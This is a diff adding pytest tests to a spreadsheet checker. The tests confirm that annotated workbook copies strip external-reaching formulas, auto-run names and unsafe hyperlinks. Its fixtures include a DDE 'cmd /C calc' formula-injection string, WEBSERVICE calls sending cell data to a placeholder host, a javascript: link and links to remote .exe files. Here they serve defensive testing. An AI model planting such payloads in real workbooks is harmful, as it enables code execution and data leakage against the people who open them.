@@ -3,19 +3,26 @@
 from __future__ import annotations
 
 import hashlib
+import zipfile
 from io import BytesIO
 
 import pytest
+from made_workbooks import blank_form
 from openpyxl import Workbook
+from openpyxl.chart import BarChart, Reference
 from openpyxl.comments import Comment
-from openpyxl.formatting.rule import CellIsRule
+from openpyxl.formatting.rule import CellIsRule, ColorScaleRule, FormulaRule
 from openpyxl.styles import PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.hyperlink import Hyperlink
 from workbooks import opened, with_role
 from xlsxwriter import Workbook as Writer
 
 from checker.errors import Locus
 from checker.model.assessment import Finding, Refusal, Run, Severity
 from checker.model.form import FIXES
+from checker.model.locality import Gazetteer
 from checker.model.pack import Pack
 from checker.reports.forms.annotate import to_annotated, to_fix_list, was_opened
 from checker.reports.forms.marks import AUTHOR, COLOURS
@@ -37,6 +44,11 @@ def saved(book: Workbook) -> bytes:
     buffer = BytesIO()
     book.save(buffer)
     return buffer.getvalue()
+
+
+def summary_of(annotated: Workbook) -> list[str]:
+    """Return what the fix list says, row by row."""
+    return [str(cells[0].value) for cells in with_role(annotated, FIXES).iter_rows(min_col=2, max_col=2)]
 
 
 @pytest.fixture
@@ -148,6 +160,81 @@ def test_formulas_become_their_values_and_text_stays_text(pack: Pack) -> None:
     assert "=1+1" in found["A1"].comment.text
     without = opened(to_annotated(saved(plain), refused(pack, at("s", 3, 1)), "en"))["s"]
     assert (without["A5"].value, without["A5"].data_type) == ("=2+2", "s")
+
+
+def test_formulas_without_a_value_are_counted_apart(pack: Pack, book: Workbook) -> None:
+    book[SHEET]["A1"] = "=2+2"
+    annotated = opened(to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "zh"))
+    lines = summary_of(annotated)
+    assert "1 个公式没有保存结果，已换成公式的文字" in lines
+    assert not any("已换成其值" in line for line in lines)
+
+
+REACHING = (
+    'WEBSERVICE("http://example.invalid/"&H9)="x"',
+    "[1]Sheet1!$A$1>0",
+    "cmd|' /C calc'!A0",
+    "_xlfn.WEBSERVICE(A1)>0",
+    "Auto_Open=1",
+    "INDIRECT(A1)>0",
+)
+
+
+@pytest.mark.parametrize("formula", REACHING)
+def test_rules_and_formats_that_could_reach_out_are_left_out(pack: Pack, book: Workbook, formula: str) -> None:
+    sheet = book[SHEET]
+    sheet.conditional_formatting.add("B2:B9", FormulaRule(formula=[formula]))
+    scale = ColorScaleRule(start_type="formula", start_value=formula, start_color="FFFFFF", end_type="max")
+    sheet.conditional_formatting.add("B2:B9", scale)
+    rule = DataValidation(type="custom", formula1=formula)
+    rule.add("P1")
+    sheet.add_data_validation(rule)
+    annotated = opened(to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "zh"))
+    formulas = sorted(rule.formula[0] for one in annotated[SHEET].conditional_formatting for rule in one.rules)
+    assert formulas == ["3", 'N("checker")=0']
+    assert annotated[SHEET].data_validations.dataValidation == []
+    assert any(line.startswith("3 处可能引用外部内容") for line in summary_of(annotated))
+
+
+def test_names_and_links_that_could_start_something_are_left_out(pack: Pack, book: Workbook) -> None:
+    sheet = book[SHEET]
+    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text='WEBSERVICE("http://example.invalid/")')
+    sheet.defined_names["far"] = DefinedName("far", attr_text="[1]Sheet1!$A$1")
+    links = ("javascript:alert(1)", r"\\server\a.exe", "file:///c:/a.exe", "other.xlsx", "https://example.invalid/")
+    for row, link in enumerate(links, 20):
+        sheet.cell(row, 1, "x").hyperlink = link
+    sheet["A30"] = "x"
+    sheet["A30"].hyperlink = Hyperlink(ref="A30", location="'填报 it''s'!B7")
+    content = to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "en")
+    annotated = opened(content)
+    kept = [cells[0].coordinate for cells in annotated[SHEET].iter_rows(max_col=1) if cells[0].hyperlink]
+    assert kept == ["A24", "A30"]
+    assert annotated[SHEET]["A20"].value == "x"
+    assert (len(annotated.defined_names), len(annotated[SHEET].defined_names)) == (0, 0)
+    assert annotated.calculation.fullCalcOnLoad is False
+    assert any(line.endswith("left out of this copy: 6") for line in summary_of(annotated))
+
+
+@pytest.mark.parametrize("reference", ["'填报 it''s'!$B$7", r"'\\server\[a.xlsx]s'!$B$7"])
+def test_charts_stay_that_draw_cells_of_the_workbook(pack: Pack, book: Workbook, reference: str) -> None:
+    chart = BarChart()
+    chart.add_data(Reference(book[SHEET], min_col=2, min_row=7))
+    chart.series[0].val.numRef.f = reference
+    book[SHEET].add_chart(chart, "H1")
+    content = to_annotated(saved(book), refused(pack, at(SHEET, 7, 2)), "zh")
+    with zipfile.ZipFile(BytesIO(content)) as parts:
+        assert ("xl/charts/chart1.xml" in parts.namelist()) == ("server" not in reference)
+
+
+def test_a_form_of_ours_keeps_its_lists_and_rules(pack: Pack, gazetteer: Gazetteer) -> None:
+    form = blank_form(pack, gazetteer)
+    before, after = opened(form), opened(to_annotated(form, refused(pack, at("?", 0, 0)), "zh"))
+    assert {*after.defined_names} == {*before.defined_names} != set()
+    for sheet in before.worksheets:
+        rules = [len(one[sheet.title].data_validations.dataValidation) for one in (before, after)]
+        formats = [len(one[sheet.title].conditional_formatting) for one in (before, after)]
+        assert (rules[0], formats[0]) == (rules[1], formats[1])
+    assert not any("没有放进本副本" in line for line in summary_of(after))
 
 
 def test_one_comment_tells_a_few_findings_and_counts_the_rest(pack: Pack, book: Workbook) -> None:
